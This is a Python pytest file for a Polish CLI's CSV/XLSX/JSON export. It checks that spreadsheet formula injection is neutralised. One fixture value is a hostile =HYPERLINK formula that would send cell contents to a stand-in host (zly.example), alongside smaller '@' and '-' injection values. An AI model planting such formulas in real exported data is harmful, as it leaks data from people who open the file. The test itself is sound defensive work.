"""`kooperacje eksport`: CSV for Polish Excel, XLSX, JSON; formula injection neutralised."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import stat
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from kooperacje.text import plural
from tests import factories
from tests.conftest import Result

Run = Callable[..., Result]

HOSTILE = '=HYPERLINK("http://zly.example/?"&A1;"Kliknij")'


@pytest.fixture
def conn(db_path: Path) -> Iterator[sqlite3.Connection]:
    connection = factories.connect(db_path)
    pcpr = factories.institution(
        connection, HOSTILE, skrot="PCPR", sektor="rodzina", telefon="+48 44 715 07 95"
    )
    factories.institution(connection, "Miejski Ośrodek Pomocy Społecznej", uwagi="@SUM(1;2)")
    factories.person(connection, pcpr, "Anna Nowak", email="a.nowak@pcpr.pl")
    team = factories.team(connection)
    factories.meeting(connection, team, "2019-09-25", "Muzeum Regionalne")
    factories.declaration(connection, team, pcpr, "2019-10-09", podpisal="-Anna Nowak")
    factories.service(
        connection,
        pcpr,
        "Poradnictwo rodzinne",
        "wspieranie_rodziny",
        zasieg=("1012011", "1012"),
        grupy=("rodziny", "dzieci_mlodziez"),
    )
    yield connection
    connection.close()


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_csv_is_what_polish_excel_opens_and_formulas_are_text(
    run: Run, conn: sqlite3.Connection, tmp_path: Path
) -> None:
    target = tmp_path / "instytucje.csv"
    result = run("eksport", "instytucje", "-o", str(target))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == f"Zapisano 2 wiersze w pliku {target}.\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    data = target.read_bytes()
    assert b"\r\n" in data
    rows = _csv_rows(data)
    assert rows[0][:6] == ["Nr", "UUID", "Nazwa", "Skrót", "Sektor", "Gmina"]
    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_name["1"]["Nazwa"] == "'" + HOSTILE
    # A phone number holds nothing a spreadsheet could run: no apostrophe in front of it.
    assert by_name["1"]["Telefon"] == "+48 44 715 07 95"
    assert by_name["2"]["Uwagi"] == "'@SUM(1;2)"
    assert by_name["2"]["Nazwa"] == "Miejski Ośrodek Pomocy Społecznej"


@pytest.mark.parametrize(
    "name", ["instytucje", "osoby", "zespoly", "spotkania", "deklaracje", "uslugi"]
)
def test_every_table_exports_in_every_format(
    run: Run, conn: sqlite3.Connection, tmp_path: Path, name: str
) -> None:
    from openpyxl import load_workbook

    as_json = run("eksport", name, "-f", "json")
    assert as_json.exit_code == 0, as_json.stderr
    records = json.loads(as_json.stdout)
    assert len(records) >= 1
    as_csv = run("eksport", name)
    assert as_csv.exit_code == 0
    rows = _csv_rows(as_csv.stdout.encode("utf-8"))
    assert len(rows) == 1 + len(records)
    target = tmp_path / f"{name}.xlsx"
    assert run("eksport", name, "-f", "xlsx", "-o", str(target)).exit_code == 0
    sheet = load_workbook(target).active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == rows[0]
    # XLSX keeps every value as text exactly (no apostrophes needed, no formulas).
    for record, row in zip(records, values[1:], strict=True):
        assert [("" if v is None else v) for v in row] == [
            "" if v is None else str(v) for v in record.values()
        ]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds == {"s"}


def test_services_carry_groups_and_reach(run: Run, conn: sqlite3.Connection) -> None:
    records = json.loads(run("eksport", "uslugi", "-f", "json").stdout)
    assert records[0]["grupy"] == "dzieci_mlodziez, rodziny"
    assert records[0]["zasieg"] == "1012, 1012011"
    deklaracje = _csv_rows(run("eksport", "deklaracje").stdout.encode())
    assert "'-Anna Nowak" in deklaracje[1]


def test_xlsx_needs_a_file(run: Run, conn: sqlite3.Connection) -> None:
    result = run("eksport", "instytucje", "-f", "xlsx")
    assert result.exit_code == 1
    assert "Dodaj opcję -o PLIK.xlsx" in result.stderr


def test_unknown_table_and_format_are_usage_errors(run: Run, conn: sqlite3.Connection) -> None:
    assert run("eksport", "klienci").exit_code == 2
    result = run("eksport", "instytucje", "-f", "pdf")
    assert result.exit_code == 2
    assert result.stderr.startswith("Błąd: ")


def test_unwritable_target(run: Run, conn: sqlite3.Connection, tmp_path: Path) -> None:
    result = run("eksport", "instytucje", "-o", str(tmp_path))
    assert result.exit_code == 1
    assert "jest katalogiem" in result.stderr


def test_plural() -> None:
    assert [plural(n, "wiersz", "wiersze", "wierszy") for n in (0, 1, 2, 5, 12, 22, 25)] == [
        "0 wierszy",
        "1 wiersz",
        "2 wiersze",
        "5 wierszy",
        "12 wierszy",
        "22 wiersze",
        "25 wierszy",
    ]
